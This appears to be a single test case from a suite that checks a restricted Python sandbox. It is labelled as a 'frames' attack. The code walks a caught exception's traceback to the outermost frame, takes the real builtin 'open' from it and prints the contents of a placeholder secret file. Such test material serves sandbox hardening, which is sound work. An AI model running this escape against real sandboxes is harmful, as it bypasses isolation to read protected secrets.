# category: frames
# attack: tb_frame.f_back.f_builtins from a caught exception
# profile: basic
try:
    1 / 0
except ZeroDivisionError as e:
    f = e.__traceback__.tb_frame
    while f.f_back:
        f = f.f_back
    print(f.f_builtins["open"]("@SECRET_FILE@").read())
